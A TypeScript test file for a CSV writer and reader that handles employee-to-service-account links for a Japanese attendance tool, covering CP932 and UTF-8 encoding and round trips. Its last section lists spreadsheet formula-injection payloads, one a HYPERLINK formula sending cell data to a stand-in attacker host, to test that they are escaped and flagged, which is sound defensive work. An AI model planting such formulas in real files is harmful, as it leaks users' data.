import fc from 'fast-check';
import iconv from 'iconv-lite';
import { describe, expect, test } from 'vitest';
import type { EmployeeDirectory } from '../directory/employee-directory.js';
import type { LinkRow } from './account-link.js';
import { exportLinksFromDirectory } from './export-links-from-directory.js';
import { LinkCsvError } from './link-csv-error.js';
import { readLinksCsv } from './read-links-csv.js';
import { validateLinks } from './validate-links.js';
import { writeLinksCsv } from './write-links-csv.js';

const row = (employeeCode: string, name: string, serviceAccount: string): LinkRow => ({
  linkType: 'SmartOn ID連携',
  typeCode: '1',
  employeeCode,
  name,
  serviceAccount,
});

describe('writeLinksCsv', () => {
  test('CP932, CRLF, header unquoted, codes quoted: the bytes a Japanese Windows tool writes', () => {
    const bytes = writeLinksCsv([row('0000', '山田 太郎', '1000'), row('0001', '山田, 花子', '0200')]);
    const expected =
      '連携種別,種別コード,打刻先アカウント,姓・名,サービスアカウント\r\n' +
      'SmartOn ID連携,"1","0000",山田 太郎,"1000"\r\n' +
      'SmartOn ID連携,"1","0001","山田, 花子","0200"\r\n';
    expect(Buffer.from(bytes).equals(iconv.encode(expected, 'cp932'))).toBe(true);
  });

  test('UTF-8 starts with a BOM unless told otherwise', () => {
    const rows = [row('0001', '𠮷田', 'a')];
    const withBom = Buffer.from(writeLinksCsv(rows, { encoding: 'utf-8' }));
    expect([...withBom.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.subarray(3).toString('utf8')).toContain('"0001",𠮷田,"a"\r\n');
    const noBom = Buffer.from(writeLinksCsv(rows, { encoding: 'utf-8', bom: false }));
    expect(noBom.toString('utf8').startsWith('連携種別')).toBe(true);
  });

  test('a name CP932 cannot hold is refused, naming the employee and the column', () => {
    try {
      writeLinksCsv([row('0001', '山田', '1'), row('0002', '𠮷田 太郎', '2')]);
      expect.unreachable();
    } catch (error) {
      expect(error).toBeInstanceOf(LinkCsvError);
      expect(error).toMatchObject({
        name: 'LinkCsvError',
        code: 'unencodable-character',
        employeeCode: '0002',
        field: '姓・名',
      });
      expect((error as Error).message).toContain('utf-8');
    }
  });

  test('look-alikes from Unicode-to-JIS converters are written as the CP932 characters Windows uses', () => {
    const bytes = writeLinksCsv([row('0001', '波〜線−太郎', '1')]);
    expect(iconv.decode(Buffer.from(bytes), 'cp932')).toContain('波～線－太郎');
  });

  test('a literal ? in a value is not mistaken for an unencodable character', () => {
    expect(() => writeLinksCsv([row('0001', 'who?', '?')])).not.toThrow();
  });

  test('a BOM with CP932 is refused', () => {
    expect(() => writeLinksCsv([], { bom: true })).toThrow(/option bom/);
  });
});

describe('exportLinksFromDirectory', () => {
  const directory: EmployeeDirectory = {
    employees: [
      { code: '0000', key: 'k0', lastName: '山田', firstName: '太郎' },
      { code: '0001', key: 'k1', lastName: '山田', firstName: '花子' },
      { code: '0002', key: 'k2' },
    ],
    divisions: [],
  };

  test("pre-fills the service account with the employee code, as PC Login's export does", () => {
    expect(exportLinksFromDirectory(directory)).toEqual([
      row('0000', '山田 太郎', '0000'),
      row('0001', '山田 花子', '0001'),
      row('0002', '', '0002'),
    ]);
  });

  test('keeps current links, so an export can be edited and imported again', () => {
    const rows = exportLinksFromDirectory(directory, {
      links: [row('0001', '', '2000'), row('0002', '', '')],
    });
    expect(rows.map((r) => r.serviceAccount)).toEqual(['0000', '2000', '0002']);
  });

  test('the export survives writing and reading with its leading zeros', () => {
    const read = readLinksCsv(writeLinksCsv(exportLinksFromDirectory(directory)), { directory });
    expect(read.problems).toEqual([]);
    expect(read.links.map((l) => [l.employeeCode, l.serviceAccount])).toEqual([
      ['0000', '0000'],
      ['0001', '0001'],
      ['0002', '0002'],
    ]);
  });
});

describe('write → read round trip (property)', () => {
  const nameChar = fc.constantFrom(...'山田太郎花子髙橋ｱｲ abcXYZ0123,"\'\t-・（）'.split(''), '\r\n', '\n');
  const name = fc.array(nameChar, { maxLength: 12 }).map((chars) => chars.join('').trim());
  const code = fc.integer({ min: 0, max: 9999 }).map((n) => String(n).padStart(4, '0'));
  const account = fc.stringMatching(/^[a-z][a-z0-9._-]{0,9}$/);

  test('rows come back equal, on the lines the writer put them, in every encoding', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.tuple(code, account, name), {
          maxLength: 30,
          selector: ([c, a]) => `${c}|${a}`,
        }),
        fc.constantFrom<{ encoding?: 'cp932' | 'utf-8'; bom?: boolean }>(
          {},
          { encoding: 'utf-8' },
          { encoding: 'utf-8', bom: false },
        ),
        (tuples, options) => {
          // One row per code and per account: duplicates are the validator's business, tested elsewhere.
          const seenCodes = new Set<string>();
          const seenAccounts = new Set<string>();
          const rows = tuples
            .filter(
              ([c, a]) =>
                !seenCodes.has(c) && !seenAccounts.has(a) && seenCodes.add(c) && seenAccounts.add(a),
            )
            .map(([c, a, n]) => row(c, n, a));
          const read = readLinksCsv(writeLinksCsv(rows, options));
          // Values that start like a formula are warned about (and survive the round trip).
          expect(read.problems.filter((p) => p.code !== 'spreadsheet-formula')).toEqual([]);
          expect(read.links.map(({ lineNumber: _, ...rest }) => rest)).toEqual(rows);
          let line = 2;
          read.links.forEach((link, i) => {
            expect(link.lineNumber).toBe(line);
            line += 1 + ((rows[i]?.name ?? '').match(/\r\n|\n/g)?.length ?? 0);
          });
        },
      ),
      { numRuns: 200 },
    );
  });
});

describe('cells a spreadsheet would run as formulas', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+SUM(1+1)',
    '-2+3',
    '@cmd',
    '\t=1+1',
    '\r=1+1',
  ];

  test('are written with a leading apostrophe, in every column, and read back unchanged', () => {
    const rows = hostile.map((value, i) => row(String(i + 1).padStart(4, '0'), value, value));
    const text = Buffer.from(writeLinksCsv(rows, { encoding: 'utf-8' })).toString('utf8');
    const cells = text.split(/\r\n/).slice(1, -1);
    for (const cell of cells) expect(cell).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
    const { links, problems } = validateLinks(readLinksCsv(writeLinksCsv(rows, { encoding: 'utf-8' })).links);
    expect(links.map((l) => l.name)).toEqual(hostile.map((v) => v.trim()));
    expect(links.map((l) => l.serviceAccount)).toEqual(hostile.map((v) => v.normalize('NFKC').trim()));
    expect(problems.filter((p) => p.code === 'spreadsheet-formula').length).toBeGreaterThanOrEqual(
      hostile.length,
    );
  });

  test('are warned about by the check, naming line and column', () => {
    const bytes = writeLinksCsv([row('0001', '山田 太郎', '@cmd')], { encoding: 'utf-8' });
    const { problems } = validateLinks(readLinksCsv(bytes).links);
    expect(problems).toContainEqual(
      expect.objectContaining({
        line: 2,
        severity: 'warning',
        code: 'spreadsheet-formula',
        field: 'サービスアカウント',
      }),
    );
  });

  test('leave ordinary values alone', () => {
    const text = Buffer.from(
      writeLinksCsv([row('0001', "O'Brien 太郎", 'taro-1')], { encoding: 'utf-8' }),
    ).toString('utf8');
    expect(text).toContain("O'Brien 太郎");
    expect(text).toContain('"taro-1"');
  });
});
